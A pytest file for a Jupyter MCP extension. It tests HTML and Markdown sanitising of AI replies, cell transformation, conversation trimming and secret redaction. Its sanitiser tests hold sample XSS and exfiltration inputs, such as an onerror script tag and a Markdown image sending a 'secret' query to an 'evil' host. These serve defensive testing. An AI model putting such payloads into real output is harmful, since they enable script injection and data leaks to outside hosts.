"""The pieces of %%mcp ask that need no server: safe Markdown, the cell transformer, the bounded conversation."""

from __future__ import annotations

import pytest

from mcpomni_jupyter.core.agents.conversation import Conversation, ToolStep
from mcpomni_jupyter.magics.agents import transform
from mcpomni_jupyter.ui.ask import safe_markdown, step_markdown


def test_html_and_images_are_neutralised_outside_code_only():
    text = "hi <img src=x onerror=alert(1)> and ![t](http://evil/?q=secret) `<b>` ok\n```\n<script>x</script>\n```\nafter <i>"
    out = safe_markdown(text)
    assert "<img" not in out and "&lt;img src=x" in out
    assert "![" not in out and "!\\[t](http://evil" in out
    assert "`<b>`" in out  # inline code is left as written (it renders literally)
    assert "\n<script>x</script>\n" in out  # so is a fenced block
    assert out.endswith("after &lt;i>")


def test_an_unclosed_fence_and_tilde_fences():
    assert safe_markdown("~~~\n<x>\n~~~\n<y>") == "~~~\n<x>\n~~~\n&lt;y>"
    assert safe_markdown("```\n<x>") == "```\n<x>"  # everything after an open fence renders as code


@pytest.mark.parametrize(
    "text",
    [
        "`` <img src=http://h/a> `",  # runs of different lengths: no code span
        "\\` <img src=http://h/b> `",  # an escaped backtick opens nothing
        "`a|b`<img src=http://h/c>`",  # pairing across a pipe: in a table, cells split first
        "`a\nb` <img src=http://h/d> `c`",  # the span that opened on the line before closes here
        "    ```\n<img src=http://h/e>\n",  # four spaces in: not a fence
        "- item\n  ```\n  x\n<img src=http://h/f>\n",  # a fence in a list item ends with the item
        "```a`b\n<img src=http://h/g>\n",  # a backtick in a backtick fence's info string: not a fence
    ],
)
def test_text_that_only_looks_like_code_is_neutralised_too(text):
    out = safe_markdown(text)
    assert "<img" not in out and "&lt;img src=http://h/" in out


def test_code_markdown_shows_as_code_stays_as_written():
    assert safe_markdown("use `List<int>` and ``x<y`` <i>") == "use `List<int>` and ``x<y`` &lt;i>"
    assert safe_markdown("```py\n<b>\n  ```\n<i>") == "```py\n<b>\n  ```\n&lt;i>"


def test_a_step_name_with_line_breaks_stays_inside_its_summary():
    md = step_markdown(ToolStep("x\n\n![t](http://h/leak)", {}, status="error"))
    summary = md.split("\n", 1)[0]
    assert summary.startswith("<details><summary>") and summary.endswith("</summary>") and "![t](http://h/leak)" in summary


def test_a_step_fences_its_text_longer_than_any_backtick_run_and_escapes_its_summary():
    step = ToolStep("demo.<b>x</b>", {"a": "````"}, status="ok", seconds=0.5, preview="``` <script>")
    md = step_markdown(step)
    assert "<summary>✅ demo.&lt;b&gt;x&lt;/b&gt; · ok · 0.50 s</summary>" in md
    assert "`````\n" in md  # five: longer than the four in the arguments


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("%%mcp ask\nhello\n", "await get_ipython().magics_manager.registry['MCPMagics'].ask_cell('ask', 'hello\\n')\n"),
        (
            "%%mcp ask --new --model test\nq",
            "await get_ipython().magics_manager.registry['MCPMagics'].ask_cell('ask --new --model test', 'q')\n",
        ),
    ],
)
def test_an_ask_cell_becomes_an_awaited_call(cell, expected):
    assert transform(cell.splitlines(keepends=True)) == [expected]


@pytest.mark.parametrize("cell", ["%%mcp call demo.add\n{}", "%%mcp asking\nx", "x = 1\n%%mcp ask", ""])
def test_other_cells_are_left_alone(cell):
    lines = cell.splitlines(keepends=True)
    assert transform(lines) == lines


def test_the_conversation_keeps_the_newest_whole_turns_within_its_bound():
    from pydantic_ai.messages import ModelRequest, ModelResponse, TextPart, ToolCallPart, ToolReturnPart, UserPromptPart

    def turn(i: int, size: int) -> list:
        return [
            ModelRequest(parts=[UserPromptPart(content=f"q{i} " + "x" * size)]),
            ModelResponse(parts=[ToolCallPart(tool_name="demo_add", args={"a": i}, tool_call_id=f"c{i}")]),
            ModelRequest(parts=[ToolReturnPart(tool_name="demo_add", content="1", tool_call_id=f"c{i}")]),
            ModelResponse(parts=[TextPart(content=f"a{i}")]),
        ]

    conversation = Conversation(limit=500)
    conversation.messages = turn(1, 1000) + turn(2, 400) + turn(3, 400)
    kept = conversation.bounded()
    assert kept[0].parts[0].content.startswith("q3")  # turn 2 + 3 exceed 500 tokens; turn 3 alone fits
    assert len(kept) == 4  # the tool call and its result stay together
    conversation.limit = 10
    assert conversation.bounded()[0].parts[0].content.startswith("q3")  # the newest turn always


def test_history_saves_without_secrets_and_loads_back(tmp_path):
    from pydantic_ai.messages import ModelRequest, UserPromptPart

    from mcpomni_jupyter.errors import ConfigError
    from mcpomni_jupyter.redact import add_secret

    add_secret("sk-secret-value-0123456789")
    conversation = Conversation()
    conversation.messages = [ModelRequest(parts=[UserPromptPart(content="my key is sk-secret-value-0123456789")])]
    path = conversation.save(tmp_path / "h.json")
    assert "sk-secret-value" not in path.read_text()
    again = Conversation()
    assert again.load(path) == 1
    (tmp_path / "bad.json").write_text("{nope")
    with pytest.raises(ConfigError, match="is not a saved conversation"):
        again.load(tmp_path / "bad.json")
    with pytest.raises(ConfigError, match="cannot read"):
        again.load(tmp_path / "missing.json")
